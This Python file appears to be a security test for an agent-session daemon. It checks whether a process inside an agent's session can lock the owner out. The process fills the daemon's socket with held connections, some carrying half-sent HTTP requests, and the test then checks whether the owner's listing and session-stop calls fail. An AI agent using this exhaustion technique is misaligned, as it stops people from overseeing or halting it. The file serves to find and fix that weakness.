"""Takes every connection that the daemon has, and keeps them.

Tries: to open connections to the daemon's socket until no more are taken, and to hold them, some
with half a request. The daemon may have few descriptors, so that it is quick.
Would prove: an agent locks the owner out, who comes by the same socket.
Saw (before the fix): after 5 s with the usual limits `perdure ls` ended with 5, and every request
over TCP was reset.
"""
import os
import resource
import socket
import sys
import time

CONTROL = "outside"
DESCRIPTORS = 700


def few_descriptors():
    resource.setrlimit(resource.RLIMIT_NOFILE, (DESCRIPTORS, DESCRIPTORS))


START = {"preexec_fn": few_descriptors}


def attack(world):
    session = world.attacker()
    holder = world.starts_inside(session, __file__, world.socket, world.work)
    end = time.monotonic() + 20
    while not os.path.exists(world.work / "held") and time.monotonic() < end:
        time.sleep(0.05)
    found = []
    for _ in range(3):
        answer = world.cli("ls", "--no-start")
        if answer.returncode != 0:
            found.append(f"the owner got {answer.returncode}: {answer.stderr.decode()[:200]}")
    try:
        status = world.api.post(f"/api/sessions/{session}/stop")[0]
    except OSError as error:
        status = error
    if status != 200:
        found.append(f"the owner could not stop the session: {status}")
    if holder:
        holder.kill()
    return found


def one(path):
    line = socket.socket(socket.AF_UNIX)
    line.settimeout(2)
    for _ in range(100):
        try:
            line.connect(path)
            return line
        except BlockingIOError:
            time.sleep(0.005)
    raise OSError("busy")


def inside(path, work):
    held, ready, end = [], time.monotonic() + 3, time.monotonic() + 60
    while time.monotonic() < end:
        try:
            if len(held) < DESCRIPTORS - 20:
                held.append(one(path))
                if len(held) % 2:
                    held[-1].send(b"GET /api/sessions HTTP/1.1\r\nHost: localhost\r\n")
        except OSError:
            time.sleep(0.01)
        if time.monotonic() > ready:
            open(f"{work}/held", "w").close()


if __name__ == "__main__":
    inside(*sys.argv[1:])
